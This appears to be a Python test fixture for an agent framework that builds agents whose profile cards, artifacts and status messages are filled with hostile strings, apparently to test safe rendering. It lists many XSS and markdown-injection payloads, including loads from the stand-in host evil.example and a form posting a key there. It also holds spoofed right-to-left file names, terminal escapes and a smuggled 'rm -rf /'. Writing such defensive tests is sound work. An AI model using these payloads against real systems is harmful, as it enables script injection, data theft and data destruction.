"""Content that tries to run a script, to load something, or to leave the page, by an agent, a caller or a file name.

And names that hide something, or look like something else; and agents with all of these on their cards and in their
artifacts.
"""

from dragoman import Agent, Context, Part
from dragoman.agents.worker.agent import WorkerAgent
from dragoman.model.card import AgentExtension, AgentProvider, AgentSkill, Profile

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=key><button>Go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](/console/session)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "- [ ] <img src=x onerror=alert(1)>",
    "{@html '<script>alert(1)</script>'} {{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\u202egnp.exe\u202c \u0000 \ufeff \u2028",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "__proto__",
)

LONG = "A" * 200_000
LONG_NAME = LONG[:1024]
"""The longest that an artifact may have."""

NAMES = (
    *PAYLOADS,
    "completed",
    "no key",
    "operator:local answered",
    "\u202emoc.live//:sptth\u2066",
    "\x1b[201~\nrm -rf /",
    "\x9b31m",
    LONG,
    "the last",
)


def hostile_card_agent() -> WorkerAgent:
    """An agent whose card is hostile in every field."""
    profile = Profile(
        id="hostile",
        name="\u202eeliforp<img src=x onerror=alert(1)>",
        description="\n".join(NAMES),
        version="\x1b[31m1",
        skills=tuple(
            AgentSkill(id=name, name=name, description=name, tags=(name, name), examples=(name,)) for name in NAMES
        ),
        input_modes=("text/plain", *NAMES),
        output_modes=NAMES,
        provider=AgentProvider(url="javascript:alert(1)", organization="\u202eskoob"),
        documentation_url="javascript:alert(1)//\u202egpj.exe",
        icon_url="data:image/svg+xml,<svg onload=alert(1)>",
        extensions=tuple(AgentExtension(uri=name, description=name) for name in NAMES),
    )
    return WorkerAgent(profile, queues=True)


def hostile_artifacts_agent() -> Agent:
    """An agent whose artifacts and reports are hostile. Those before its question are so large as to be skipped."""
    agent = Agent("artifacts")

    @agent.skill
    async def emit(ctx: Context) -> None:
        """Emit artifacts."""
        for number in range(8):
            await ctx.artifact("much", name=LONG_NAME, description=LONG, id=f"large{number}")
        await ctx.ask("Go on?")
        for number, text in enumerate(each for each in NAMES if each is not LONG):
            name = text.replace("\0", "")  # which names may not have
            part = Part(text=text[:99], filename=name, media_type=name, metadata={text: 1})
            await ctx.artifact(part, name=name, description=text, id=f"{number}{name}")
            await ctx.status(text, metadata={text: 1})

    return agent
